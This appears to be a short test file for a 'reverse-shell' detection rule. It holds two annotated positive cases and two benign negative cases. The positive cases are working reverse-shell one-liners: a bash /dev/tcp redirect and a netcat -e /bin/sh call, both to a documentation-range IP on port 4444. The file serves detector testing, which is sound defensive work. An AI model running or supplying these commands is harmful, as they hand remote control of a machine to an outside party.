# ruleid: reverse-shell
bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
# ruleid: reverse-shell
nc 198.51.100.7 4444 -e /bin/sh
# ok: reverse-shell
nc -z localhost 5432
# ok: reverse-shell
bash -l -c "make"
